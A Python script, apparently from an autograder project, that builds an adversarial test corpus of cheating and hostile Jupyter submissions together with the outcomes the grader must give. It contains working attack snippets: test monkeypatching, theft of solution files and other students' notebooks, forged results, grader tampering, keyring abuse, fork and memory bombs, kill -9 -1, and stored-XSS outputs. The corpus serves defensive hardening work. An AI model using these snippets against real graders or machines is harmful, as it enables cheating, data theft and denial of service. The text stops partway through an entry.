"""Build the attack corpus: hostile and broken A1 submissions, and the outcome each must get.

Run from the repository root after the A1 release changes::

    .venv/bin/python tests/adversarial/build_corpus.py

It writes ``tests/adversarial/submissions/`` (small notebooks, committed) and
``tests/adversarial/expected.json``.  The few submissions that are large or
that must name paths known only at test time (binary garbage, a 50 MB
notebook, an attack on the grader's output folder, a copy of another student's
notebook by absolute path) are made by :func:`generate_at_test_time` into a
temporary folder and are never committed.

Every notebook is the A1 release with one of two answer sets and the attack
added, so that "a cheat scores what the same submission scores without the
cheat":

* ``full``: every answer right (30 points);
* ``partial``: Q1, Q2, Q6, Q7, Q8 right and Q3, Q4, Q5 wrong (16 points).
  A cheat that worked would lift it above 16.

Attack code goes into a cell of its own right after the setup cell (before
every answer), unless the attack is a change to the notebook itself.

``requires`` in expected.json names the isolation an entry needs:
``filesystem`` and ``network`` (bubblewrap), ``contained_processes``
(bubblewrap or a separate user: without either, these attacks would really
kill the grader or the machine, so they are not run at all).
"""

from __future__ import annotations

import json
import os
import random
import re
import shutil
import sys
from pathlib import Path
from typing import Any, Callable

import nbformat

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[1]
SUBMISSIONS = HERE / "submissions"
EXPECTED = HERE / "expected.json"

FULL, PARTIAL = 30.0, 16.0

# Wrong answers for Q3, Q4, Q5 (the partial answer set).
WRONG = {
    "triangular_answer": "det_L = a * c\nL_inv = sp.eye(3)\n",
    "rank_one_answer": "det_A = sp.Integer(1)\nA_inv = sp.eye(3)\n",
    "projection_matrix_answer": (
        "def projection_matrix(A):\n"
        "    A = np.asarray(A, dtype=float)\n"
        "    return np.zeros((A.shape[0], A.shape[0]))\n"
    ),
}


# --------------------------------------------------------------------------- answer sets


def solutions() -> dict[str, str]:
    """The source notebook's solutions, markers removed: grade_id -> cell source."""
    source = nbformat.read(ROOT / "source" / "a1" / "a1.ipynb", as_version=4)
    answers = {}
    for cell in source.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("solution"):
            answers[meta["grade_id"]] = re.sub(r"^[ \t]*### (BEGIN|END) SOLUTION[ \t]*\n?", "", cell.source, flags=re.M)
    return answers


def release_with(answer_set: str) -> nbformat.NotebookNode:
    nb = nbformat.read(ROOT / "release" / "a1" / "a1.ipynb", as_version=4)
    answers = solutions()
    if answer_set == "partial":
        answers.update(WRONG)
    for cell in nb.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if grade_id in answers:
            cell.source = answers[grade_id]
    return nb


def _setup_index(nb: nbformat.NotebookNode) -> int:
    return next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "setup_imports")


def with_cell(code: str, answer_set: str = "partial", where: str = "after_setup") -> nbformat.NotebookNode:
    """The answer set with one more code cell (the student's own scratch cell)."""
    nb = release_with(answer_set)
    cell = nbformat.v4.new_code_cell(code)
    cell.id = "students-own-cell"  # fixed, so that rebuilding the corpus changes nothing
    if where == "after_setup":
        nb.cells.insert(_setup_index(nb) + 1, cell)
    else:  # "middle": between Q4 and Q5, so answers run before and after it
        q5 = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "setup_plot_projection")
        nb.cells.insert(q5, cell)
    return nb


def stealing(prelude: str) -> nbformat.NotebookNode:
    """A student who solved Q1, Q2, Q6-Q8 and, for Q3-Q5, runs answers stolen by ``prelude`` (into ``stolen``).

    Where the theft fails, ``stolen`` is undefined, those three cells raise, and the submission
    is worth what the partial answers are worth (16); where it works, 30.
    """
    nb = with_cell(prelude)
    for cell in nb.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if grade_id in WRONG:
            cell.source = f"exec(stolen[{grade_id!r}])"
    return nb


def test_cells(nb: nbformat.NotebookNode) -> list[nbformat.NotebookNode]:
    return [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade")]


# --------------------------------------------------------------------------- attacks

MONKEYPATCH_NUMPY = """\
# Make every numpy comparison succeed (full marks in graders that test in the student's kernel).
import numpy as np, numpy.testing
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, bool)
np.array_equal = lambda *a, **k: True
np.all = lambda *a, **k: True
np.linalg.matrix_rank = lambda *a, **k: 0
for name in ("assert_allclose", "assert_array_equal", "assert_array_almost_equal", "assert_equal"):
    setattr(numpy.testing, name, lambda *a, **k: None)
"""

MONKEYPATCH_SYMPY = """\
# Make sympy say that everything is equal to everything.
import sympy as sp
sp.simplify = lambda *a, **k: sp.Integer(0)
sp.Expr.equals = lambda self, other, *a, **k: True
sp.MatrixBase.equals = lambda self, other, *a, **k: True
"""

MONKEYPATCH_CHECKS = """\
# Turn every check of the course into a no-op, and the CheckFailure into something never raised.
import mdl_student.checks as checks
for name in dir(checks):
    if name.startswith("assert_"):
        setattr(checks, name, lambda *a, **k: None)
checks.CheckFailure = type("NeverRaised", (Exception,), {})
"""

INPUT_TRANSFORMER = """\
# Blank every later cell that tests anything: nothing left to fail.
def _blank_tests(lines):
    text = "".join(lines)
    return [] if ("assert" in text or "mdl_student.checks" in text) else lines

get_ipython().input_transformers_cleanup.append(_blank_tests)
"""

SHOWTRACEBACK = """\
# Hide every error: a test cell that fails looks like one that passed.
import sys
ip = get_ipython()
ip.showtraceback = lambda *a, **k: None
ip.showsyntaxerror = lambda *a, **k: None
ip._showtraceback = lambda *a, **k: None
sys.excepthook = lambda *a, **k: None
"""

READ_SOURCE = """\
# Copy the instructor's solutions out of the source notebook (Q3-Q5's answer cells run them).
import json, os
source = None
for path in ["../../source/a1/a1.ipynb", "../source/a1/a1.ipynb", "/work/main/source/a1/a1.ipynb",
             os.path.expanduser("~/source/a1/a1.ipynb")]:
    try:
        source = json.load(open(path))
        break
    except OSError as err:
        last = err
if source is None:
    raise FileNotFoundError(f"no source notebook to copy: {last}")
stolen = {}
for cell in source["cells"]:
    meta = cell.get("metadata", {}).get("nbgrader", {})
    if meta.get("solution"):
        text = "".join(cell["source"])
        stolen[meta["grade_id"]] = text.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", "")
"""

READ_BUILD = """\
# Read the hidden tests of the grading bundle.
hidden = None
for path in ["/work/main/build/a1/tests/q1_affine.py", "../../build/a1/tests/q1_affine.py", "build/a1/tests/q1_affine.py"]:
    try:
        hidden = open(path).read()
        break
    except OSError as err:
        last = err
if hidden is None:
    raise FileNotFoundError(f"no hidden tests to read: {last}")
"""

READ_OTHERS = """\
# Look for other students' notebooks on the machine and copy a full-marks one (Q3-Q5's answer cells run it).
import glob, json, os
mine = os.path.realpath("a1.ipynb")
patterns = ("../*.ipynb", "../*/a1/*.ipynb", "/tmp/**/*.ipynb", "/home/**/*.ipynb", "/root/**/*.ipynb",
            "/work/main/tests/adversarial/submissions/*.ipynb", "/work/main/examples/submissions/a1/*.ipynb")
others = sorted({p for pattern in patterns for p in glob.glob(pattern, recursive=True) if os.path.realpath(p) != mine},
                key=lambda p: "full" not in os.path.basename(p))
if not others:
    raise FileNotFoundError("found no other notebook to copy")
stolen = {}
for cell in json.load(open(others[0])).get("cells", []):
    meta = cell.get("metadata", {}).get("nbgrader", {})
    if meta.get("solution"):
        stolen[meta["grade_id"]] = "".join(cell["source"])
"""

FAKE_RESULTS = """\
# Write a perfect results.json and gradebook wherever the grader might look.
import json, os
perfect = {"score": 30.0, "tests": [], "extra_data": {"status": "ok"}}
row = "student,assignment,score,max_score,status\\nfake_results,a1,30,30,ok\\n"
written = []
for folder in [".", "..", "/tmp", os.path.expanduser("~"), "/work/main/graded/a1"]:
    for name, text in [("results.json", json.dumps(perfect)), ("grades.csv", row),
                       ("record.json", json.dumps({"student": "fake_results", "score": 30.0}))]:
        try:
            with open(os.path.join(folder, name), "w") as handle:
                handle.write(text)
            written.append(os.path.join(folder, name))
        except OSError:
            pass
print("wrote", written)
"""

NETWORK = """\
# Phone a friend (or an answer server).
import socket, urllib.request
try:
    socket.create_connection(("1.1.1.1", 53), timeout=3).close()
    reached = "1.1.1.1"
except OSError as err:
    reached = None
    reason = err
if reached is None:
    raise OSError(f"no network: {reason}")
"""

TAMPER_AGENT = """\
# Find the grader's agent in this process and make it send garbage instead of answers.
import gc
for obj in gc.get_objects():
    if type(obj).__name__ == "Agent" and hasattr(obj, "send"):
        def send(message, _send=obj.send):
            if "names" in message:
                message = {"ok": True, "names": ["not", "a", "dict"]}
            elif "value" in message:
                message = {"ok": True, "value": {"$tensor": "garbage", "dtype": "torch.float32"}}
            _send(message)
        obj.send = send
"""

ATTACKS: list[dict[str, Any]] = []


def attack(name: str, build: Callable[[], nbformat.NotebookNode] | None, *, status: str, score: float,
           message: str, description: str, requires: str | None = None, layout: str = "flat",
           raw: bytes | None = None, absent: tuple[str, ...] = (), hidden_detail: tuple[str, ...] = ()) -> None:
    """One corpus entry; ``absent`` lists texts that must appear in none of the student's files, ``hidden_detail``
    texts of hidden messages that the instructor's record.json keeps and no file a student reads shows."""
    ATTACKS.append(dict(name=name, build=build, raw=raw, status=status, score=score, message=message,
                        description=description, requires=requires, layout=layout, absent=list(absent),
                        hidden_detail=list(hidden_detail)))


def corpus() -> None:
    """The committed corpus: one call per submission."""
    attack("control_full", lambda: release_with("full"), status="ok", score=FULL, message="",
           description="control: every answer right, no attack")
    attack("control_partial", lambda: release_with("partial"), status="ok", score=PARTIAL, message="",
           description="control: Q3, Q4, Q5 wrong, no attack (the base of every cheat)")
    # -- cheats: must score what the partial answers score
    attack("monkeypatch_numpy", lambda: with_cell(MONKEYPATCH_NUMPY), status="ok", score=PARTIAL, message="",
           description="replaces np.allclose, np.isclose, np.all, numpy.testing asserts by always-true versions")
    attack("monkeypatch_sympy", lambda: with_cell(MONKEYPATCH_SYMPY), status="ok", score=PARTIAL, message="",
           description="replaces sympy's simplify and equals by always-equal versions")
    attack("monkeypatch_checks", lambda: with_cell(MONKEYPATCH_CHECKS), status="ok", score=PARTIAL, message="",
           description="turns every mdl_student.checks assert_* into a no-op")
    attack("input_transformer", lambda: with_cell(INPUT_TRANSFORMER), status="ok", score=PARTIAL, message="",
           description="an IPython input transformer that blanks every later cell holding a test")
    attack("showtraceback", lambda: with_cell(SHOWTRACEBACK), status="ok", score=PARTIAL, message="",
           description="overrides showtraceback / excepthook so that failing cells look clean")
    attack("tamper_agent", lambda: with_cell(TAMPER_AGENT, "partial"), status="ok", score=0.0, message="malformed",
           description="finds the grader's agent object in the kernel and makes it answer garbage")
    # -- the notebook itself tampered with
    attack("edit_test_cells", _edit_test_cells, status="ok", score=PARTIAL, message="",
           description="the locked test cells replaced by `pass` (metadata kept)")
    attack("delete_test_cells", _delete_test_cells, status="ok", score=PARTIAL, message="",
           description="every test cell deleted")
    attack("test_cells_unlocked", _unlock_test_cells, status="ok", score=PARTIAL, message="",
           description="test cells turned into answer cells with their asserts removed, points set to 1000")
    attack("kernelspec_changed", _kernelspec_changed, status="ok", score=FULL, message="",
           description="kernelspec and language_info say R; notebook metadata rewritten")
    attack("points_inflated", _points_inflated, status="ok", score=FULL, message="",
           description="test cells claim 1000 points each; the notebook claims another assignment name")
    # -- stopping the kernel or the grader
    attack("sys_exit", lambda: with_cell("import sys\nsys.exit(0)", "partial", "middle"), status="ok", score=PARTIAL,
           message="SystemExit", description="sys.exit(0) in the middle of the notebook")
    attack("os_exit", lambda: with_cell("import os\nos._exit(0)", "full", "middle"), status="crashed", score=FULL,
           message="exited with status 0", description="os._exit(0): the kernel process ends")
    attack("kill_parent", lambda: with_cell("import os, signal\nos.kill(os.getppid(), signal.SIGKILL)", "partial", "middle"),
           status="ok", score=PARTIAL, message="PermissionError", requires="contained_processes",
           description="os.kill(os.getppid(), SIGKILL): tries to kill the grader")
    attack("killpg", lambda: with_cell("import os, signal\nos.killpg(0, signal.SIGKILL)", "partial", "middle"),
           status="crashed", score=PARTIAL, message="SIGKILL", requires="contained_processes",
           description="os.killpg(0, SIGKILL): kills its own process group")
    attack("kill_everything", lambda: with_cell("import os\nos.system('kill -9 -1')", "partial", "middle"),
           status="crashed", score=PARTIAL, message="SIGKILL", requires="contained_processes",
           description="kill -9 -1: every process the kernel may signal")
    # -- limits
    attack("infinite_loop", lambda: with_cell("while True:\n    pass", "full", "middle"), status="timeout", score=FULL,
           message="time limit", description="while True: pass")
    attack("sleep_forever", lambda: with_cell("import time\ntime.sleep(10**6)", "partial", "middle"), status="timeout",
           score=PARTIAL, message="time limit", description="time.sleep(10**6)")
    attack("alarm_disabled_loop",
           lambda: with_cell("import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\nwhile True:\n    pass", "partial", "middle"),
           status="timeout", score=PARTIAL, message="time limit",
           description="ignores the agent's SIGALRM, then loops: only the grader's hard deadline stops it")
    attack("memory_bomb", lambda: with_cell("hog = [bytes(2**30) for _ in range(100)]", "partial", "middle"),
           status="memory", score=PARTIAL, message="MemoryError", description="asks for 100 blocks of 1 GB")
    attack("fork_bomb", lambda: with_cell(FORK_BOMB, "partial", "middle"), status="timeout", score=PARTIAL,
           message="time limit", requires="contained_processes", description="forks until the process limit, forever")
    attack("stdout_flood", lambda: with_cell("print('x' * (100 * 2**20))", "partial", "middle"), status="ok", score=PARTIAL,
           message="was cut, not kept", description="prints 100 MB to stdout")
    attack("disk_filler", lambda: with_cell(DISK_FILLER, "partial", "middle"), status="ok", score=PARTIAL,
           message="File too large", requires="filesystem",
           description="writes 1 GB into its working folder and into /tmp (without bubblewrap, the machine's own /tmp)")
    # -- reading what it must not
    attack("read_source", lambda: stealing(READ_SOURCE), status="ok", score=PARTIAL, message="no source notebook",
           requires="filesystem", description="reads ../../source/a1/a1.ipynb or /work/main/source/a1/a1.ipynb; Q3-Q5's answer cells run its solutions")
    attack("read_build", lambda: with_cell(READ_BUILD), status="ok", score=PARTIAL, message="no hidden tests",
           requires="filesystem", description="reads /work/main/build/a1/tests/q1_affine.py (the hidden tests)")
    attack("read_other_students", lambda: stealing(READ_OTHERS), status="ok", score=PARTIAL,
           message="no other notebook", requires="filesystem",
           description="globs the machine for other students' notebooks; Q3-Q5's answer cells run a full-marks one's answers")
    attack("fake_results", lambda: with_cell(FAKE_RESULTS), status="ok", score=PARTIAL, message="",
           requires="filesystem", description="writes a perfect results.json, grades.csv and record.json into cwd, .., /tmp, ~")
    attack("network", lambda: with_cell(NETWORK), status="ok", score=PARTIAL, message="no network",
           requires="network", description="opens a TCP connection to 1.1.1.1:53")
    # -- answers that attack the bridge
    attack("oversized_answer", lambda: with_cell("y_example = np.zeros(10**7)", "partial", "middle"), status="ok",
           score=PARTIAL - 2, message="over the bridge's limit",
           description="an 80 MB answer (base64 over the bridge's 64 MB message limit) for Q2 (2 points)")
    attack("nested_answer", lambda: with_cell("y_example = []\nfor _ in range(5000):\n    y_example = [y_example]", "partial", "middle"),
           status="ok", score=PARTIAL - 2, message="y_example", description="an answer nested 5000 lists deep for Q2")
    attack("sympy_bomb", lambda: with_cell("det_L = a**(10**12)", "partial", "middle"), status="ok",
           score=PARTIAL, message="MemoryError",
           description="det_L = a**(10**12): substituting a number makes sympy compute a 10**12-bit integer")
    attack("function_loops_when_called", _function_loops, status="ok", score=PARTIAL - 4, message="time limit",
           description="n_linear_regions (Q7, 4 points) loops forever, but only when a test calls it")
    # -- not a notebook of this assignment, or not a notebook
    attack("renamed", lambda: release_with("full"), status="ok", score=FULL, message="renamed", layout="nbgrader:renamed.ipynb",
           description="nbgrader layout with the notebook renamed: renamed/a1/renamed.ipynb")
    attack("missing", None, status="missing", score=0.0, message="no notebook", layout="nbgrader:notes.txt",
           description="a student folder with no notebook in it")
    attack("other_assignment", _other_assignment, status="wrong-assignment", score=0.0, message="another assignment",
           description="a notebook of another assignment (cells with other grade_ids)")
    attack("nbformat3", _nbformat3, status="ok", score=FULL, message="",
           description="the full answers saved as nbformat 3 (worksheets)")
    attack("malformed_json", None, raw=_malformed_json(), status="invalid-notebook", score=0.0,
           message="not valid notebook JSON", description="a notebook cut off in the middle")
    attack("empty_file", None, raw=b"", status="invalid-notebook", score=0.0, message="empty", description="0 bytes")
    attack("invalid_utf8", None, raw=_invalid_utf8(), status="invalid-notebook", score=0.0, message="not UTF-8",
           description="a notebook with a byte that is not UTF-8 inside a cell")
    attack("json_not_notebook", None, raw=b'{"hello": "world", "answers": [1, 2, 3]}', status="invalid-notebook",
           score=0.0, message="not a Jupyter notebook", description="JSON, but not a notebook")
    attack("cells_not_cells", None, raw=_cells_not_cells(), status="invalid-notebook", score=0.0,
           message="could not be read", description="nbformat 4 JSON whose cells are numbers, strings and sources of the wrong type")
    attack("cell_source_not_text", None, raw=_cell_source_not_text(), status="invalid-notebook", score=0.0,
           message="malformed", description="an answer cell whose source is a number, another whose grade_id is a list")
    attack("deep_json", None, raw=b"[" * 200_000 + b"]" * 200_000, status="invalid-notebook", score=0.0,
           message="not valid notebook JSON", description="200,000 nested JSON lists (recursion bomb for parsers)")
    hardening_attacks()
    third_round_attacks()


# --------------------------------------------------------------------------- second round (issue 10)

DECODE_BOMB = """\
# det_L as an object whose srepr is an Integral of a sum of 14 Piecewise: 1.6 KB of text that sympy's
# own Integral constructor folds into 2**14 pieces while rebuilding it (this hung the whole grader).
import sympy as sp

class Bomb(sp.Symbol):
    __module__ = "sympy.bomb"  # so that the kernel's codec sends it as sympy srepr text

    def _sympyrepr(self, printer):
        pieces = ", ".join(f"Piecewise(ExprCondPair(Integer({k}), StrictLessThan(Symbol('a'), Integer({k}))), "
                           f"ExprCondPair(Integer({k + 1}), true))" for k in range(14))
        return f"Integral(Add({pieces}), Tuple(Symbol('a'), Integer(0), Integer(1)))"

det_L = Bomb("bomb")
"""

SLOW_TO_DECIDE = """\
# Answers no check can settle quickly: an undefined function (no value at any point) plus a sum of
# rational functions whose common denominator has degree 60, so that each symbolic check runs its
# helper process to its time limit.
g = sp.Function("g")
slow = g(a) + sum((a + k * b + c) ** 6 / (d + k * e + f) ** 5 for k in range(1, 13))
det_L = a * c * f + slow
L_inv = sp.Matrix([[1 / a + slow, 0, 0], [-b / (a * c), 1 / c, 0], [(b * e - c * d) / (a * c * f), -e / (c * f), 1 / f]])
"""

INTERPOLATE = """\
# Not the answers: polynomials through the values at the points the symbolic check will use, computed
# with the check's own sampler (a fixed seed made them known in advance).
import sympy as sp
from mdl_student.checks import _Sampler

def check_points(names, n=12):
    symbols = sorted(sp.symbols(names), key=lambda s: s.name)
    return symbols[0], _Sampler(symbols, {}, n).points[:n]

def through(first, points, values):
    # Lagrange's polynomial in the first symbol through (point, value), left unexpanded (cheap to build)
    xs = [p[first] for p in points]
    return sp.Add(*[y * sp.Mul(*[(first - xj) / (xi - xj) for xj in xs if xj != xi]) for xi, y in zip(xs, values)])

def fitted(matrix, names):
    first, points = check_points(names)
    at_points = [matrix.subs(p) for p in points]  # numbers only: what a calculator gives
    det = through(first, points, [m.det() for m in at_points])
    inverses = [m.inv() for m in at_points]
    return det, sp.Matrix(3, 3, lambda i, j: through(first, points, [m[i, j] for m in inverses]))

det_L = fitted(sp.Matrix([[a, 0, 0], [b, c, 0], [d, e, f]]), "a c f")[0]
L_inv = fitted(sp.Matrix([[a, 0, 0], [b, c, 0], [d, e, f]]), "a b c d e f")[1]
det_A, A_inv = fitted(sp.eye(3) + u * v.T, "u1 u2 u3 v1 v2 v3")
"""

HIDDEN_INPUTS_IN_EXCEPTIONS = """\
def n_linear_regions(Di, D):
    visible = {(2, 3): 7, (1, 5): 6, (10, 50): 13432735556, (10, 8): 256}
    if (Di, D) in visible:
        return visible[(Di, D)]
    print(f"PRINTED Di={Di} D={D}")  # a hidden call: shout its inputs every way there is
    raise type(f"LeakDi{Di}D{D}", (ValueError,), {})(f"SECRET Di={Di}, D={D}")
"""

KEYRING_LEAVE = """\
# Leave my answers in the kernel keyrings (user, session, persistent), for a later kernel of the same uid.
import ctypes, json, os
libc = ctypes.CDLL(None, use_errno=True)
answers = {}
for cell in json.load(open("a1.ipynb"))["cells"]:
    meta = cell.get("metadata", {}).get("nbgrader", {})
    if meta.get("solution"):
        answers[meta["grade_id"]] = "".join(cell["source"])
payload = json.dumps(answers).encode()
for keyring in (-4, -3):  # KEY_SPEC_USER_KEYRING, KEY_SPEC_SESSION_KEYRING
    if libc.syscall(248, b"user", b"mdl-answers", payload, len(payload), ctypes.c_int(keyring)) < 0:
        raise OSError(ctypes.get_errno(), "add_key: " + os.strerror(ctypes.get_errno()))
persistent = libc.syscall(250, 22, ctypes.c_int(-1), ctypes.c_int(-4))  # KEYCTL_GET_PERSISTENT, linked to @u
if persistent >= 0:
    libc.syscall(248, b"user", b"mdl-answers", payload, len(payload), ctypes.c_int(persistent))
"""

KEYRING_TAKE = """\
# Read answers another kernel of this uid left in a keyring (Q3-Q5's answer cells run them).
import ctypes, json, os
libc = ctypes.CDLL(None, use_errno=True)
key = libc.syscall(249, b"user", b"mdl-answers", None, 0)  # request_key: searches every keyring in reach
if key < 0:
    raise OSError(ctypes.get_errno(), "request_key: " + os.strerror(ctypes.get_errno()))
buffer = ctypes.create_string_buffer(1 << 20)
size = libc.syscall(250, 11, ctypes.c_int(key), buffer, len(buffer))  # KEYCTL_READ
stolen = json.loads(buffer.raw[:size])
"""

TAMPER_NUMBERS = """\
# Tamper with the agent: every reply to a cell claims 10**400 bytes of output were cut, and y_example's
# value arrives as a 400-digit integer.
import gc
for obj in gc.get_objects():
    if type(obj).__name__ == "Agent" and hasattr(obj, "send"):
        def send(message, _send=obj.send):
            if "output_dropped" in message:
                message = {**message, "output_dropped": 10**400}
            names = message.get("names")
            if isinstance(names, dict) and "y_example" in names:
                names["y_example"] = {"kind": "value", "value": {"$int": "9" * 400}}
            _send(message)
        obj.send = send
"""

MILLION_EMPTY_LISTS = """\
# y_example arrives as 1.5 million empty lists (20 MB of JSON, under the bridge's 64 MB): built once and
# sent by a tampered agent, so that no time limit of the kernel's own encoding stops it first.
import gc
flood = {"kind": "value", "value": {"$list": [{"$list": []}] * 1_500_000}}
for obj in gc.get_objects():
    if type(obj).__name__ == "Agent" and hasattr(obj, "send"):
        def send(message, _send=obj.send):
            names = message.get("names")
            if isinstance(names, dict) and "y_example" in names:
                names["y_example"] = flood
            _send(message)
        obj.send = send
"""

LONE_SURROGATES = """\
# Text no UTF-8 file can hold: lone surrogates in printed output, in an exception and in an answer.
print("\\udfff")
y_example = "\\ud800"
raise ValueError("bad \\ud800 text")
"""


# Issue 23, class 1: a student function keeps the arguments of every call the grader makes to it, and a
# later visible test quotes them (Q1 runs first; its first three calls are its visible ones, so a quoted
# later call, "seen: call ...", and Q1's hidden input [1.0, -1.0, 0.5] could only come from a hidden test).
RECORDING_AFFINE = """\
import numpy as np

SEEN = []  # the beta of every call, in order

def affine(beta, Omega, X):
    SEEN.append(np.asarray(beta).tolist())
    return np.asarray(beta, dtype=float)[:, None] + np.asarray(Omega) @ np.asarray(X)

def seen_beyond_the_visible_calls():
    # Q1's visible test calls affine three times: every later call is a hidden one (newest first,
    # since a message may cut long text)
    later = [f"call {k}: {beta}" for k, beta in enumerate(SEEN)][3:][::-1]
    return "seen: " + (" | ".join(later) or "only the visible calls")
"""

QUOTE_IN_FUNCTION = """\
def n_linear_regions(Di, D):
    # text, not a number: Q7's visible test fails and its message quotes what this returns
    return seen_beyond_the_visible_calls()
"""

QUOTE_IN_ANSWER = """\
# y_example (Q2) is read after Q1 is graded: a tampered agent answers with what affine has seen so far.
import gc
for obj in gc.get_objects():
    if type(obj).__name__ == "Agent" and hasattr(obj, "send"):
        def send(message, _send=obj.send):
            names = message.get("names")
            if isinstance(names, dict) and "y_example" in names:
                names["y_example"] = {"kind": "value", "value": seen_beyond_the_visible_calls()}
            _send(message)
        obj.send = send
"""


WRONG_SHAPE_PROJECTION = """\
def projection_matrix(A):
    A = np.asarray(A, dtype=float)
    return np.eye(A.shape[0] + 1)
"""


def _recording(quote_answer: str, code: str) -> nbformat.NotebookNode:
    """The partial answers, with an affine that records its arguments and ``code`` in ``quote_answer``'s cell."""
    nb = _with_answer("affine_answer", RECORDING_AFFINE)
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == quote_answer:
            cell.source = code if quote_answer != "affine_answer" else cell.source + "\n" + code
    return nb


def _stored_active_outputs() -> nbformat.NotebookNode:
    """The partial answers, with outputs and cells that run script when an instructor's tool renders them
    (issue 23, class 8). Each script would set the page's title to PWNED; none of it is run by grading."""
    nb = release_with("partial")
    script = "document.title = 'PWNED'"
    scratch = nbformat.v4.new_code_cell("print('my scratch work')", id="active-outputs")
    scratch.outputs = [
        nbformat.v4.new_output("display_data", data={"application/javascript": script, "text/plain": "<IPython.Javascript>"}),
        nbformat.v4.new_output("execute_result", execution_count=1, data={
            "text/html": f"<b>table</b><script>{script}</script><img src=x onerror=\"{script}\">",
            "text/plain": "table"}),
        nbformat.v4.new_output("display_data", data={
            "application/vnd.jupyter.widget-view+json": {"model_id": "PWNED", "version_major": 2, "version_minor": 0},
            "text/plain": "Button()"}),
        nbformat.v4.new_output("display_data", data={"image/svg+xml": f"<svg onload=\"{script}\"></svg>"}),
        nbformat.v4.new_output("display_data", data={"text/latex": "$\\href{javascript:document.title='PWNED'}{x}$"}),
    ]
    markdown = nbformat.v4.new_markdown_cell(f"My notes <script>{script}</script> and [a link](javascript:{script}) "
                                             f"<img src=x onerror=\"{script}\"", id="active-markdown")
    markdown.attachments = {"x.svg": {"image/svg+xml": "PHN2ZyBvbmxvYWQ9ImRvY3VtZW50LnRpdGxlPSdQV05FRCciPjwvc3ZnPg=="}}
    raw = nbformat.v4.new_raw_cell(f"<script>{script}</script>", id="active-raw", metadata={"raw_mimetype": "text/html"})
    nb.cells[_setup_index(nb) + 1: _setup_index(nb) + 1] = [scratch, markdown, raw]
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {"PWNED": {}}, "version_major": 2}}
    return nb


def third_round_attacks() -> None:
    """Issue 23: hidden inputs (recorded by a student function, or named by a hidden check) reach no file a student
    reads; stored outputs that run script are graded as usual (and made inert for an instructor's tool)."""
    attack("function_quotes_earlier_hidden_inputs",
           lambda: _recording("n_linear_regions_answer", QUOTE_IN_FUNCTION), status="ok", score=PARTIAL - 4,
           message="seen:", absent=("seen: call", "[1.0, -1.0, 0.5]"),
           description="affine (Q1) records every argument; n_linear_regions (Q7) returns them as text, so Q7's "
           "visible failure message quoted Q1's hidden inputs")
    attack("answer_quotes_earlier_hidden_inputs",
           lambda: _recording("affine_answer", QUOTE_IN_ANSWER), status="ok", score=PARTIAL - 2,
           message="seen:", absent=("seen: call", "[1.0, -1.0, 0.5]"),
           description="affine (Q1) records every argument; a tampered agent answers y_example (Q2) with them, so "
           "Q2's visible failure message quoted Q1's hidden inputs")
    attack("stored_active_outputs", _stored_active_outputs, status="ok", score=PARTIAL, message="",
           description="stored outputs and cells that run script where rendered (application/javascript, "
           "<script> and onerror in HTML, a widget, SVG, a LaTeX javascript: link, a raw HTML cell): graded as usual; "
           "mdl formgrader hands the instructor's Jupyter an inert copy (tests/test_manual.py)")
    attack("hidden_message_names_a_shape",
           lambda: _with_answer("projection_matrix_answer", WRONG_SHAPE_PROJECTION), status="ok", score=PARTIAL,
           message="", hidden_detail=("the expected shape is (4, 4)",),
           description="projection_matrix returns a matrix one row and column too large: the hidden check's message "
           "names the hidden input's shape, which results.json (shown by Gradescope) used to carry")


def hardening_attacks() -> None:
    """Issue 10, items 1-7 and 11: the grader's own process, verdicts, isolation, the size of what is kept."""
    attack("decode_bomb", lambda: with_cell(DECODE_BOMB, "full", "middle"), status="ok", score=FULL - 2,
           message="", description="det_L's srepr is an Integral of 14 Piecewise (1.6 KB): rebuilt by sympy's "
           "constructor it folds into 2**14 pieces; it used to hang the whole grader (it costs q3's det_L case "
           "only: L_inv, a hidden case of its own, is right)")
    attack("million_empty_lists", lambda: with_cell(MILLION_EMPTY_LISTS), status="ok",
           score=PARTIAL - 2, message="over the limit",
           description="y_example (Q2) arrives as 1.5 million empty lists (20 MB of JSON; 4 million took 1.3 GB "
           "of the grader's own memory when it decoded answers itself)")
    attack("helper_outlives_question", lambda: with_cell(SLOW_TO_DECIDE, "partial", "middle"), status="ok",
           score=PARTIAL, message="could not decide",
           description="Q3's answers keep each symbolic check's helper busy to its time limit: a question stopped "
           "at its deadline must stop its helpers too (tests/test_adversarial.py stops one)")
    attack("tamper_huge_numbers", lambda: with_cell(TAMPER_NUMBERS), status="ok", score=PARTIAL - 2,
           message="was cut", description="a tampered agent: 10**400 bytes of output cut, per cell, and a "
           "400-digit integer for y_example (it made the submission a grader-error)")
    attack("lone_surrogates", lambda: with_cell(LONE_SURROGATES, "partial", "middle"), status="ok",
           score=PARTIAL - 2, message="bad \ufffd text",
           description="lone surrogates (\\ud800) printed, raised and given as y_example: text no UTF-8 file can hold")
    attack("interpolate_sample_points", lambda: with_cell(INTERPOLATE, "partial", "middle"), status="ok",
           score=PARTIAL, message="not equivalent",
           description="Q3 and Q4 answered by polynomials through the values at the symbolic check's own sample "
           "points (known in advance when they came from a fixed seed): 8 points for wrong answers")
    attack("vanish_on_the_sample_grid",
           lambda: with_cell("det_L = a * c * f + sp.sin(1000 * sp.pi * a)", "full", "middle"), status="ok",
           score=FULL - 2, message="not equivalent",
           description="det_L plus sin(1000*pi*a), which is zero on a grid of thousandths (where sample points "
           "were); the visible check's point is on the grid too, so only the hidden half is lost")
    attack("agree_inside_the_sampled_range",
           lambda: with_cell("det_L = sp.Piecewise((a * c * f, a < 10**4), (0, True))", "full", "middle"),
           status="ok", score=FULL - 2, message="", description="det_L right for a < 10**4 and 0 beyond, where "
           "no sample point used to fall; the visible point is below, so only the hidden half is lost")
    attack("exception_quotes_hidden_inputs",
